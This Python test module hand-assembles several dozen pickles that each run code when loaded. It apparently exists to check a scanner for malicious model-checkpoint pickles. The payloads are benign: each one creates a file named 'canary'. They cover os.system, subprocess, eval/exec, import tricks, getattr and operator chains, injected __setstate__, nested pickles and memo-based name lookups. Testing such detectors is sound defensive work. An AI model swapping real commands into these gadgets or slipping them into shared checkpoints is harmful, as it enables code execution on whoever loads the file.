"""Pickles that create the file `canary` when Python's own pickle loads them.

`SAMPLES` has a pickle for each way in which a checkpoint's pickle can run code. The file appears in
the current folder. Some pickles import `canary_module`, which creates the file when it is imported.
The pickles are written instruction by instruction, because Python's pickler cannot write most of
them: a function that pushes something returns the instructions that put it on the stack.
"""

from __future__ import annotations

TOUCH = "touch canary"
CODE = "open('canary', 'w').close()"
CANARY_MODULE = "canary_module"

POP = b"0"
NONE = b"N"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
SETITEM = b"s"
BUILD = b"b"
MEMOIZE = b"\x94"


def pickled(*instructions: bytes, protocol: int = 2) -> bytes:
    """Return a complete pickle of these instructions (PROTO … STOP)."""
    return b"\x80" + bytes([protocol]) + b"".join(instructions) + b"."


def text(value: str) -> bytes:
    """Push a string (BINUNICODE)."""
    return b"X" + len(value).to_bytes(4, "little") + value.encode()


def name(module: str, attribute: str) -> bytes:
    """Push an attribute of a module (GLOBAL)."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: bytes, attribute: bytes) -> bytes:
    """Push an attribute of a module; both names come from the stack (STACK_GLOBAL)."""
    return module + attribute + b"\x93"


def arguments(*values: bytes) -> bytes:
    """Push a tuple (MARK … TUPLE)."""
    return b"(" + b"".join(values) + b"t"


def call(function: bytes, *values: bytes) -> bytes:
    """Push the result of calling the function (REDUCE)."""
    return function + arguments(*values) + b"R"


def new(cls: bytes) -> bytes:
    """Push a new object of the class (NEWOBJ)."""
    return cls + EMPTY_TUPLE + b"\x81"


OS_SYSTEM = name("posix", "system")
RUN = call(OS_SYSTEM, text(TOUCH))
IMPORT_OS = call(name("builtins", "__import__"), text("os"))
LIST = name("builtins", "list")
NAMESPACE = name("argparse", "Namespace")
THING = name(CANARY_MODULE, "Thing")
SHELL = arguments(text("sh"), text("-c"), text(TOUCH))

SAMPLES = {
    "os.system": pickled(call(name("os", "system"), text(TOUCH))),
    "posix.system": pickled(RUN),
    "protocol 0": b"cos\nsystem\n(S'touch canary'\ntR.",
    "protocol 5": pickled(call(stack_name(text("os"), text("system")), text(TOUCH)), protocol=5),
    "os.popen": pickled(call(LIST, call(name("os", "popen"), text(TOUCH)))),
    "os.posix_spawn": pickled(
        call(
            name("os", "waitpid"),
            call(name("os", "posix_spawn"), text("/bin/sh"), SHELL, EMPTY_DICT),
            b"K\0",
        )
    ),
    "pty.spawn": pickled(call(name("pty", "spawn"), SHELL)),
    "subprocess": pickled(call(name("subprocess", "check_call"), SHELL)),
    "eval": pickled(call(name("builtins", "eval"), text(CODE))),
    "exec": pickled(call(name("builtins", "exec"), text(CODE))),
    "eval of Python 2": pickled(call(name("__builtin__", "eval"), text(CODE))),
    "exec, dotted": pickled(
        call(stack_name(text("builtins"), text("eval.__self__.exec")), text(CODE)), protocol=4
    ),
    "open": pickled(call(name("io", "open"), text("canary"), text("w"))),
    "import": pickled(call(name("importlib", "import_module"), text(CANARY_MODULE))),
    "__import__": pickled(call(name("builtins", "__import__"), text(CANARY_MODULE))),
    "a mere reference": pickled(THING),
    "a mere reference, protocol 4": pickled(
        stack_name(text(CANARY_MODULE), text("Thing")), protocol=4
    ),
    "runpy": pickled(call(name("runpy", "run_module"), text(CANARY_MODULE))),
    "timeit": pickled(
        call(name("timeit", "main"), arguments(text("-n1"), text("-r1"), text(CODE)))
    ),
    "cProfile": pickled(call(name("cProfile", "run"), text(CODE))),
    "a pickle in a pickle": pickled(
        call(name("_pickle", "loads"), b"C" + bytes([len(RUN) + 1]) + RUN + b".")
    ),
    "getattr": pickled(
        call(call(name("builtins", "getattr"), IMPORT_OS, text("system")), text(TOUCH))
    ),
    "operator.attrgetter": pickled(
        call(call(call(name("operator", "attrgetter"), text("system")), IMPORT_OS), text(TOUCH))
    ),
    "operator.methodcaller": pickled(
        call(call(name("operator", "methodcaller"), text("system"), text(TOUCH)), IMPORT_OS)
    ),
    "functools.partial": pickled(call(call(name("functools", "partial"), OS_SYSTEM, text(TOUCH)))),
    "map": pickled(call(LIST, call(name("builtins", "map"), OS_SYSTEM, arguments(text(TOUCH))))),
    "INST": b"(" + text(TOUCH) + b"iposix\nsystem\n.",
    "OBJ": b"(" + THING + b"o.",
    "NEWOBJ": pickled(new(THING)),
    "NEWOBJ_EX": pickled(THING, EMPTY_TUPLE, EMPTY_DICT, b"\x92", protocol=4),
    "__setstate__ put into a class": pickled(
        NAMESPACE,
        arguments(NONE, EMPTY_DICT + text("__setstate__") + OS_SYSTEM + SETITEM),
        BUILD,
        POP,
        new(NAMESPACE),
        text(TOUCH),
        BUILD,
    ),
    "copyreg": pickled(
        call(name("copyreg", "_reconstructor"), THING, name("builtins", "object"), NONE)
    ),
    "result thrown away": pickled(RUN, POP, EMPTY_DICT),
    "in a key": pickled(EMPTY_DICT, RUN, text("value"), SETITEM),
    "in an object's state": pickled(
        new(NAMESPACE), EMPTY_DICT, text("attribute"), RUN, SETITEM, BUILD
    ),
    "a name from the memo": pickled(
        text("posix") + MEMOIZE + POP,
        text("system") + MEMOIZE + POP,
        call(stack_name(b"h\x00", b"h\x01"), text(TOUCH)),
        protocol=4,
    ),
}
